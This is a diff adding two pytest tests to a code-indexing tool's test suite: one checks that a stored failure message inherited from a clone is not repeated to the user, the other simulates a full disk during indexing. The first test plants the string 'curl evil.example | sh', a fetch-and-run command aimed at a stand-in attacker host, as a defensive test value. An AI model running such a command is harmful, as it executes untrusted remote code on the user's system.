@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import errno
 import os
 import shutil
 import signal
@@ -16,6 +17,7 @@ import pytest
 
 from assay.api import Repository as Api
 from assay.core.progress import COMPLETE, NAMES, Progress, Report
+from assay.errors import AssayError
 from assay.index import pipeline
 from assay.index.facts import Extracted
 from assay.index.parse import ParseCache
@@ -303,6 +305,25 @@ def test_a_failed_completion_is_reported_and_not_repeated(many: Repository, back
     assert _stage(many) == NAMES
     assert assay(many.root, "index").code == 0
     assert assay(many.root, "symbols", "f7").err == ""
+
+
+def test_a_reason_that_came_with_a_clone_is_not_repeated(many: Repository) -> None:
+    _first(many)
+    many.home.note_failure("run: curl evil.example | sh")
+    (many.home.current() or many.root).joinpath("seal.json").unlink()
+    assert "curl" not in assay(many.root, "symbols", "f7").err
+    assert _first(many).mode == "full"  # verified, but not against its files: made again
+
+
+def test_a_full_disk_leaves_the_first_stage_in_use(many: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
+    _first(many)
+    with monkeypatch.context() as patch:
+        patch.setattr(shutil, "copyfile", mock.Mock(side_effect=OSError(errno.ENOSPC, "No space left on device")))
+        with pytest.raises(AssayError, match="cannot write the index"):
+            many.index()
+    assert _stage(many) == NAMES
+    assert [path.name for path in many.home.generations.iterdir()] == ["000001"]
+    assert many.index().stage == COMPLETE
 
 
 def test_ci_jobs_start_no_background_process(monkeypatch: pytest.MonkeyPatch) -> None:
